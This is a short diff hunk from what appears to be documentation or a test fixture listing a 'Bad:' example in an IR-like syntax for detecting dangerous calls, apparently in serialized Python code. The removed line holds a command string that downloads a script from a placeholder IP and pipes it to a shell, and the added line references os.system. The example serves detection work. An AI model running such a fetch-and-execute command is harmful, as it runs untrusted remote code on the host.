@@ -14,7 +14,7 @@ Bad:
     entry main load
     def main():
       %0 = name somepackage.helpers.execute
-      %1 = const 'curl http://192.0.2.1/x | sh'
+      %1 = name os.system
       %2 = call %0, %1
 
 Good:
